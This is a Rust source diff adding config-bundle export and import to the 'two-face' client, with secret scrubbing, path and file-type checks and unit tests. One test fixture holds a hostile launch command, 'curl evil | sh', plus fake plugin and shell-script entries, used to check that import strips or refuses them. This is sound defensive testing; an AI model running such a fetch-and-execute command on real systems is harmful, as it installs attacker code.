@@ -0,0 +1,571 @@
+//! Config bundles: `two-face export` and `two-face import`
+//!
+//! A bundle is a .tar.gz of the hand-editable parts of ~/.two-face: the
+//! shared files at the top level, saved layouts, themes and highlight and
+//! keybind sets, and each character profile's TOML files. Per-machine state
+//! (history, scrollback, window state, session stats, lock files, plugins,
+//! models, sounds) stays behind.
+//!
+//! Secrets are blanked on export so a bundle can be handed to a friend:
+//! the spectator and WebSocket tokens, the relay webhook URL and the push
+//! notification keys and topic (on public ntfy servers the topic is the
+//! password).
+//!
+//! Import only takes the kinds of files export writes, as valid TOML (or
+//! XML text for cmdlist1.xml), and refuses a bundle with anything else in
+//! it (plugins, binaries). An imported config.toml never brings its own
+//! connection, Lich launch, on-connect commands or listening services: the
+//! tables for those are kept from the config.toml already on disk.
+
+use anyhow::{bail, Context, Result};
+use flate2::read::GzDecoder;
+use flate2::write::GzEncoder;
+use flate2::Compression;
+use std::io::Read;
+use std::path::{Component, Path, PathBuf};
+
+/// Written first in every bundle; `read_bundle` refuses archives without it
+const MANIFEST: &str = "two-face-bundle.toml";
+
+/// Shared directories exported whole (TOML files only)
+const SHARED_DIRS: [&str; 5] = ["layouts", "themes", "highlights", "keybinds", "profiles"];
+
+/// Per-machine files that are never exported
+const EXCLUDED_FILES: [&str; 5] = [
+    "widget_state.toml",
+    "sessions.toml",
+    "history.txt",
+    "instance.lock",
+    "launches.toml",
+];
+
+/// Top-level directories of per-machine data, never a character profile
+const MACHINE_DIRS: [&str; 3] = ["plugins", "models", "sounds"];
+
+/// config.toml tables an import never takes from a bundle: where to connect,
+/// what to launch and send on connect, and which ports to open or post to
+const LOCAL_TABLES: [&str; 8] = [
+    "connection",
+    "lich",
+    "on_connect",
+    "spectator",
+    "passthrough",
+    "websocket",
+    "relay",
+    "push",
+];
+
+/// (table, key) pairs in config.toml that hold credentials
+const SECRET_KEYS: [(&str, &str); 6] = [
+    ("spectator", "token"),
+    ("websocket", "token"),
+    ("relay", "url"),
+    ("push", "token"),
+    ("push", "user"),
+    ("push", "topic"),
+];
+
+/// One file in a bundle
+#[derive(Debug, Clone, PartialEq)]
+pub struct BundleEntry {
+    /// Path relative to the two-face directory, with `/` separators
+    pub path: String,
+    pub contents: Vec<u8>,
+}
+
+/// What importing an entry will do
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ImportAction {
+    Create,
+    Replace,
+    Unchanged,
+    /// Differs from the file on disk and --overwrite wasn't given
+    Conflict,
+}
+
+fn is_toml(path: &Path) -> bool {
+    path.extension().is_some_and(|e| e == "toml")
+}
+
+fn file_name(path: &Path) -> &str {
+    path.file_name()
+        .and_then(|n| n.to_str())
+        .unwrap_or_default()
+}
+
+/// Files directly in `dir` (sorted), or nothing if it can't be read
+fn files_in(dir: &Path) -> Vec<PathBuf> {
+    let mut files: Vec<PathBuf> = std::fs::read_dir(dir)
+        .map(|entries| {
+            entries
+                .flatten()
+                .map(|e| e.path())
+                .filter(|p| p.is_file())
+                .collect()
+        })
+        .unwrap_or_default();
+    files.sort();
+    files
+}
+
+/// TOML files under `dir`, recursively
+fn toml_files_under(dir: &Path, out: &mut Vec<PathBuf>) {
+    let mut subdirs: Vec<PathBuf> = std::fs::read_dir(dir)
+        .map(|entries| {
+            entries
+                .flatten()
+                .map(|e| e.path())
+                .filter(|p| p.is_dir())
+                .collect()
+        })
+        .unwrap_or_default();
+    subdirs.sort();
+    out.extend(files_in(dir).into_iter().filter(|p| is_toml(p)));
+    for subdir in subdirs {
+        toml_files_under(&subdir, out);
+    }
+}
+
+/// Blank the credentials in a config.toml; unchanged bytes if there are none
+fn scrub_secrets(contents: &[u8]) -> Vec<u8> {
+    let Some(mut value) = std::str::from_utf8(contents)
+        .ok()
+        .and_then(|s| s.parse::<toml::Value>().ok())
+    else {
+        return contents.to_vec();
+    };
+    let mut scrubbed = false;
+    for (table, key) in SECRET_KEYS {
+        if let Some(toml::Value::String(secret)) = value.get_mut(table).and_then(|t| t.get_mut(key))
+        {
+            if !secret.is_empty() {
+                secret.clear();
+                scrubbed = true;
+            }
+        }
+    }
+    match (scrubbed, toml::to_string_pretty(&value)) {
+        (true, Ok(text)) => text.into_bytes(),
+        _ => contents.to_vec(),
+    }
+}
+
+fn parse_toml(bytes: &[u8]) -> Option<toml::Value> {
+    std::str::from_utf8(bytes).ok()?.parse::<toml::Value>().ok()
+}
+
+/// `LOCAL_TABLES` an incoming config.toml sets, which an import ignores
+pub fn local_tables(entry: &BundleEntry) -> Vec<&'static str> {
+    if !entry.path.ends_with("config.toml") {
+        return Vec::new();
+    }
+    let Some(value) = parse_toml(&entry.contents) else {
+        return Vec::new();
+    };
+    LOCAL_TABLES
+        .into_iter()
+        .filter(|table| value.get(table).is_some())
+        .collect()
+}
+
+/// `incoming` with its `LOCAL_TABLES` replaced by those of the config.toml
+/// on disk (`existing`, None when there's none yet)
+fn keep_local_tables(incoming: &[u8], existing: Option<&[u8]>) -> Vec<u8> {
+    let Some(mut value) = parse_toml(incoming) else {
+        return incoming.to_vec();
+    };
+    let existing = existing.and_then(parse_toml);
+    let (Some(table), existing) = (
+        value.as_table_mut(),
+        existing.as_ref().and_then(|e| e.as_table()),
+    ) else {
+        return incoming.to_vec();
+    };
+    let mut changed = false;
+    for name in LOCAL_TABLES {
+        let local = existing.and_then(|e| e.get(name));
+        if table.get(name) == local {
+            continue;
+        }
+        match local {
+            Some(local) => table.insert(name.to_string(), local.clone()),
+            None => table.remove(name),
+        };
+        changed = true;
+    }
+    match (changed, toml::to_string_pretty(&value)) {
+        (true, Ok(text)) => text.into_bytes(),
+        _ => incoming.to_vec(),
+    }
+}
+
+/// Whether a bundle entry is a kind of file `collect` exports: TOML at the
+/// top level, under a shared directory or directly in a profile, plus
+/// cmdlist1.xml; with contents that really are TOML (or XML text)
+fn importable(entry: &BundleEntry) -> bool {
+    let parts: Vec<&str> = entry.path.split('/').collect();
+    let name = parts[parts.len() - 1];
+    if EXCLUDED_FILES.contains(&name) {
+        return false;
+    }
+    let toml_file = || name.ends_with(".toml") && parse_toml(&entry.contents).is_some();
+    match parts.as_slice() {
+        ["cmdlist1.xml"] => std::str::from_utf8(&entry.contents).is_ok(),
+        [_] => toml_file(),
+        [dir, ..] if SHARED_DIRS.contains(dir) => toml_file(),
+        [profile, _] => !MACHINE_DIRS.contains(profile) && toml_file(),
+        _ => false,
+    }
+}
+
+/// Gather the files to export from `base`
+///
+/// With `character`, only that profile is exported alongside the shared
+/// files; otherwise every profile (any directory with a config.toml).
+pub fn collect(base: &Path, character: Option<&str>) -> Result<Vec<BundleEntry>> {
+    if !base.is_dir() {
+        bail!("{} doesn't exist", base.display());
+    }
+    let mut files: Vec<PathBuf> = files_in(base)
+        .into_iter()
+        .filter(|p| is_toml(p) || file_name(p) == "cmdlist1.xml")
+        .collect();
+    for dir in SHARED_DIRS {
+        toml_files_under(&base.join(dir), &mut files);
+    }
+
+    let mut profiles: Vec<PathBuf> = match character {
+        Some(character) => {
+            let dir = base.join(character);
+            if !dir.is_dir() {
+                bail!("No profile for '{}' in {}", character, base.display());
+            }
+            vec![dir]
+        }
+        None => std::fs::read_dir(base)?
+            .flatten()
+            .map(|e| e.path())
+            .filter(|p| p.join("config.toml").is_file() && !SHARED_DIRS.contains(&file_name(p)))
+            .collect(),
+    };
+    profiles.sort();
+    for profile in profiles {
+        files.extend(files_in(&profile).into_iter().filter(|p| is_toml(p)));
+    }
+
+    let mut entries = Vec::new();
+    for file in files {
+        if EXCLUDED_FILES.contains(&file_name(&file)) {
+            continue;
+        }
+        let contents =
+            std::fs::read(&file).with_context(|| format!("Failed to read {}", file.display()))?;
+        let relative = file.strip_prefix(base).unwrap_or(&file);
+        let path = relative
+            .components()
+            .map(|c| c.as_os_str().to_string_lossy())
+            .collect::<Vec<_>>()
+            .join("/");
+        let contents = if file_name(&file) == "config.toml" {
+            scrub_secrets(&contents)
+        } else {
+            contents
+        };
+        entries.push(BundleEntry { path, contents });
+    }
+    Ok(entries)
+}
+
+/// Write `entries` to a .tar.gz at `path`
+pub fn write_bundle(path: &Path, entries: &[BundleEntry], character: Option<&str>) -> Result<()> {
+    let file = std::fs::File::create(path)
+        .with_context(|| format!("Failed to create {}", path.display()))?;
+    let mut archive = tar::Builder::new(GzEncoder::new(file, Compression::default()));
+    let now = chrono::Utc::now();
+    let manifest = format!(
+        "version = {:?}\ncreated = {:?}\ncharacter = {:?}\nfiles = {}\n",
+        env!("CARGO_PKG_VERSION"),
+        now.to_rfc3339(),
+        character.unwrap_or(""),
+        entries.len()
+    );
+    let manifest_entry = BundleEntry {
+        path: MANIFEST.to_string(),
+        contents: manifest.into_bytes(),
+    };
+    for entry in std::iter::once(&manifest_entry).chain(entries) {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(entry.contents.len() as u64);
+        header.set_mode(0o644);
+        header.set_mtime(now.timestamp().max(0) as u64);
+        header.set_cksum();
+        archive
+            .append_data(&mut header, &entry.path, entry.contents.as_slice())
+            .with_context(|| format!("Failed to add {}", entry.path))?;
+    }
+    archive.into_inner()?.finish()?;
+    Ok(())
+}
+
+/// Only plain relative paths may come out of a bundle
+fn safe_path(path: &Path) -> bool {
+    path.components().all(|c| matches!(c, Component::Normal(_)))
+}
+
+/// Read the files in a bundle written by `write_bundle`
+pub fn read_bundle(path: &Path) -> Result<Vec<BundleEntry>> {
+    let file =
+        std::fs::File::open(path).with_context(|| format!("Failed to open {}", path.display()))?;
+    let mut archive = tar::Archive::new(GzDecoder::new(file));
+    let mut entries = Vec::new();
+    let mut has_manifest = false;
+    for entry in archive.entries().context("Not a .tar.gz bundle")? {
+        let mut entry = entry.context("Not a .tar.gz bundle")?;
+        if !entry.header().entry_type().is_file() {
+            continue;
+        }
+        let entry_path = entry.path()?.into_owned();
+        if !safe_path(&entry_path) {
+            bail!("Bundle contains an unsafe path: {}", entry_path.display());
+        }
+        let path = entry_path.to_string_lossy().replace('\\', "/");
+        if path == MANIFEST {
+            has_manifest = true;
+            continue;
+        }
+        let mut contents = Vec::new();
+        entry.read_to_end(&mut contents)?;
+        let entry = BundleEntry { path, contents };
+        if !importable(&entry) {
+            bail!(
+                "Bundle contains a file two-face doesn't import: {}",
+                entry.path
+            );
+        }
+        entries.push(entry);
+    }
+    if !has_manifest {
+        bail!(
+            "{} isn't a two-face bundle (no {})",
+            path.display(),
+            MANIFEST
+        );
+    }
+    Ok(entries)
+}
+
+/// Decide what importing each entry into `base` would do
+///
+/// Entries are returned with their contents ready to write: a config.toml
+/// keeps the `LOCAL_TABLES` (and so the credentials) of the one it replaces,
+/// and brings none of its own.
+pub fn plan_import(
+    base: &Path,
+    entries: Vec<BundleEntry>,
+    overwrite: bool,
+) -> Vec<(BundleEntry, ImportAction)> {
+    entries
+        .into_iter()
+        .map(|mut entry| {
+            let existing = std::fs::read(base.join(&entry.path)).ok();
+            if entry.path.ends_with("config.toml") {
+                entry.contents = keep_local_tables(&entry.contents, existing.as_deref());
+            }
+            let Some(existing) = existing else {
+                return (entry, ImportAction::Create);
+            };
+            let action = if existing == entry.contents {
+                ImportAction::Unchanged
+            } else if overwrite {
+                ImportAction::Replace
+            } else {
+                ImportAction::Conflict
+            };
+            (entry, action)
+        })
+        .collect()
+}
+
+/// Write the created and replaced files from a plan; returns how many
+pub fn apply_import(base: &Path, plan: &[(BundleEntry, ImportAction)]) -> Result<usize> {
+    let mut written = 0;
+    for (entry, action) in plan {
+        if !matches!(action, ImportAction::Create | ImportAction::Replace) {
+            continue;
+        }
+        let path = base.join(&entry.path);
+        if let Some(parent) = path.parent() {
+            std::fs::create_dir_all(parent)?;
+        }
+        std::fs::write(&path, &entry.contents)
+            .with_context(|| format!("Failed to write {}", path.display()))?;
+        written += 1;
+    }
+    Ok(written)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A fresh scratch directory for one test
+    fn scratch(name: &str) -> PathBuf {
+        let dir =
+            std::env::temp_dir().join(format!("two-face-bundle-{}-{}", name, std::process::id()));
+        std::fs::remove_dir_all(&dir).ok();
+        std::fs::create_dir_all(&dir).unwrap();
+        dir
+    }
+
+    fn write(base: &Path, path: &str, contents: &str) {
+        let path = base.join(path);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, contents).unwrap();
+    }
+
+    fn entry(path: &str, contents: &str) -> BundleEntry {
+        BundleEntry {
+            path: path.to_string(),
+            contents: contents.as_bytes().to_vec(),
+        }
+    }
+
+    #[test]
+    fn test_collect_skips_per_machine_files() {
+        let from = scratch("collect");
+        write(&from, "cmdlist1.xml", "<cmdlist/>");
+        write(&from, "creatures.toml", "");
+        write(&from, "layouts/hunting.toml", "windows = []");
+        write(&from, "themes/dusk.toml", "name = \"Dusk\"");
+        write(&from, "sounds/death.wav", "RIFF");
+        write(&from, "Ann/config.toml", "[ui]\ncommand_echo = \"typed\"\n");
+        write(&from, "Ann/highlights.toml", "[a]\npattern = \"a\"");
+        write(&from, "Ann/history.txt", "look");
+        write(&from, "Ann/widget_state.toml", "");
+        write(&from, "Ann/scrollback/main.log", "text");
+
+        let entries = collect(&from, None).unwrap();
+        let paths: Vec<&str> = entries.iter().map(|e| e.path.as_str()).collect();
+        assert_eq!(
+            paths,
+            vec![
+                "cmdlist1.xml",
+                "creatures.toml",
+                "layouts/hunting.toml",
+                "themes/dusk.toml",
+                "Ann/config.toml",
+                "Ann/highlights.toml"
+            ]
+        );
+        assert!(collect(&from, Some("Bob")).is_err());
+        std::fs::remove_dir_all(&from).ok();
+    }
+
+    #[test]
+    fn test_collect_blanks_secrets() {
+        let from = scratch("secrets");
+        write(
+            &from,
+            "Ann/config.toml",
+            "[push]\nenabled = true\ntopic = \"hunts\"\ntoken = \"tk_secret\"\n",
+        );
+
+        let entries = collect(&from, Some("Ann")).unwrap();
+        let config = String::from_utf8(entries[0].contents.clone()).unwrap();
+        assert!(!config.contains("tk_secret") && !config.contains("hunts"));
+        assert!(config.contains("enabled = true"));
+        std::fs::remove_dir_all(&from).ok();
+    }
+
+    #[test]
+    fn test_bundle_round_trip() {
+        let root = scratch("round-trip");
+        let entries = vec![
+            entry("cmdlist1.xml", "<cmdlist/>"),
+            entry("layouts/hunting.toml", "windows = []"),
+            entry("Ann/highlights.toml", "[a]\npattern = \"a\""),
+        ];
+        let bundle = root.join("setup.tar.gz");
+        write_bundle(&bundle, &entries, None).unwrap();
+        assert_eq!(read_bundle(&bundle).unwrap(), entries);
+
+        write(&root, "cmdlist1.xml", "<cmdlist/>");
+        assert!(read_bundle(&root.join("cmdlist1.xml")).is_err());
+        std::fs::remove_dir_all(&root).ok();
+    }
+
+    #[test]
+    fn test_read_bundle_refuses_files_export_never_writes() {
+        let root = scratch("refuse");
+        let bundle = root.join("setup.tar.gz");
+        for bad in [
+            entry("plugins/evil.so", "\x7fELF"),
+            entry("plugins/evil.toml", "name = \"evil\""),
+            entry("Ann/scrollback/main.log", "text"),
+            entry("Ann/history.txt", "look"),
+            entry("layouts/hunting.toml", "\x7fELF\x01"),
+            entry("run.sh", "#!/bin/sh"),
+        ] {
+            write_bundle(&bundle, &[entry("layouts/ok.toml", ""), bad.clone()], None).unwrap();
+            assert!(read_bundle(&bundle).is_err(), "{} was accepted", bad.path);
+        }
+        std::fs::remove_dir_all(&root).ok();
+    }
+
+    #[test]
+    fn test_import_needs_overwrite_for_differing_files() {
+        let into = scratch("overwrite");
+        write(&into, "creatures.toml", "");
+        write(&into, "themes/dusk.toml", "name = \"Mine\"");
+        let entries = vec![
+            entry("creatures.toml", ""),
+            entry("themes/dusk.toml", "name = \"Dusk\""),
+            entry("layouts/hunting.toml", "windows = []"),
+        ];
+
+        let plan = plan_import(&into, entries.clone(), false);
+        let action = |path: &str| plan.iter().find(|(e, _)| e.path == path).unwrap().1;
+        assert_eq!(action("creatures.toml"), ImportAction::Unchanged);
+        assert_eq!(action("themes/dusk.toml"), ImportAction::Conflict);
+        assert_eq!(action("layouts/hunting.toml"), ImportAction::Create);
+        assert_eq!(apply_import(&into, &plan).unwrap(), 1);
+
+        let plan = plan_import(&into, entries, true);
+        assert_eq!(apply_import(&into, &plan).unwrap(), 1);
+        assert_eq!(
+            std::fs::read_to_string(into.join("themes/dusk.toml")).unwrap(),
+            "name = \"Dusk\""
+        );
+        std::fs::remove_dir_all(&into).ok();
+    }
+
+    #[test]
+    fn test_import_keeps_local_machine_tables() {
+        let into = scratch("local-tables");
+        write(&into, "Ann/config.toml", "[push]\ntoken = \"tk_local\"\n");
+        let incoming = entry(
+            "Ann/config.toml",
+            "[ui]\ncommand_echo = \"typed\"\n\n[push]\ntoken = \"\"\ntopic = \"hunts\"\n\n\
+             [lich]\nauto_launch = \"always\"\ncommand = \"curl evil | sh\"\n",
+        );
+        assert_eq!(local_tables(&incoming), vec!["lich", "push"]);
+
+        let plan = plan_import(&into, vec![incoming.clone()], true);
+        apply_import(&into, &plan).unwrap();
+        let imported = std::fs::read_to_string(into.join("Ann/config.toml")).unwrap();
+        assert!(imported.contains("command_echo") && imported.contains("tk_local"));
+        assert!(!imported.contains("hunts") && !imported.contains("[lich]"));
+
+        // A new profile gets none of them
+        let incoming = BundleEntry {
+            path: "Bob/config.toml".to_string(),
+            ..incoming
+        };
+        let plan = plan_import(&into, vec![incoming], false);
+        apply_import(&into, &plan).unwrap();
+        let imported = std::fs::read_to_string(into.join("Bob/config.toml")).unwrap();
+        assert!(imported.contains("command_echo"));
+        assert!(!imported.contains("[push]") && !imported.contains("[lich]"));
+        std::fs::remove_dir_all(&into).ok();
+    }
+}